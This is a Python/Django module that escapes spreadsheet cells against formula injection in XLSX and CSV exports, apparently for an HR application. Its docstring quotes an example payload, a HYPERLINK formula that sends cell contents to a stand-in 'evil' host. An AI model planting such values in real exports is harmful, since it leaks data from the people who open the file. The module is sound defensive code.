"""Spreadsheet exports (XLSX, CSV) that are safe against formula injection — the one home for the rule.

A cell whose text starts with ``= + - @`` (or a tab / carriage return, which some spreadsheet programs
strip before reading the rest as a formula) would be evaluated by Excel, WPS or LibreOffice when HR opens
the file: a candidate named ``=HYPERLINK("http://evil/?"&A1,"点击")`` could leak the sheet or run a command.
Every string cell therefore goes through ``safe_cell``, which prefixes such text with an apostrophe, the
spreadsheet convention for "this is text". Numbers, dates and empty cells are passed through unchanged.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal

from django.http import HttpResponse

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_FILENAME_UNSAFE = re.compile(r"[^A-Za-z0-9._-]+")


def safe_cell(value):
    """The value to write into a spreadsheet cell: text that a spreadsheet would run as a formula gets a
    leading apostrophe; numbers, dates, booleans and None are returned as they are; anything else becomes
    text (and is guarded the same way)."""
    if value is None or isinstance(value, bool | int | float | Decimal | date | datetime):
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def safe_row(values: Iterable) -> list:
    return [safe_cell(v) for v in values]


def safe_filename(stem: str, extension: str) -> str:
    """An ASCII file name for Content-Disposition (codes and dates only; never user-typed text)."""
    cleaned = _FILENAME_UNSAFE.sub("-", stem).strip("-.") or "export"
    return f"{cleaned}.{extension}"


def xlsx_bytes(*, headers: Sequence[str], rows: Iterable[Sequence], sheet_title: str = "Sheet1") -> bytes:
    """One worksheet, a bold header row, every cell through ``safe_cell``. Write-only mode keeps memory flat
    for large exports."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=(sheet_title or "Sheet1")[:31])
    bold = Font(bold=True)
    header_cells = []
    for title in headers:
        cell = WriteOnlyCell(sheet, value=safe_cell(str(title)))
        cell.font = bold
        header_cells.append(cell)
    sheet.append(header_cells)
    for row in rows:
        cells = []
        for value in safe_row(row):
            cell = WriteOnlyCell(sheet, value=value)
            if isinstance(value, str):
                # openpyxl guesses "formula" for text starting with "="; safe_cell already prefixed it, and the
                # explicit type keeps it text whatever openpyxl's guess.
                cell.data_type = "s"
            cells.append(cell)
        sheet.append(cells)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(*, filename: str, headers: Sequence[str], rows: Iterable[Sequence], sheet_title: str = "Sheet1"):
    response = HttpResponse(xlsx_bytes(headers=headers, rows=rows, sheet_title=sheet_title),
                            content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "no-store"
    return response


def csv_response(*, filename: str, headers: Sequence[str], rows: Iterable[Sequence]):
    """UTF-8 with a BOM, so Excel on a Chinese Windows opens it without mojibake."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer)
    writer.writerow(safe_row(headers))
    for row in rows:
        writer.writerow(["" if v is None else v for v in safe_row(row)])
    response = HttpResponse(buffer.getvalue().encode("utf-8"), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "no-store"
    return response
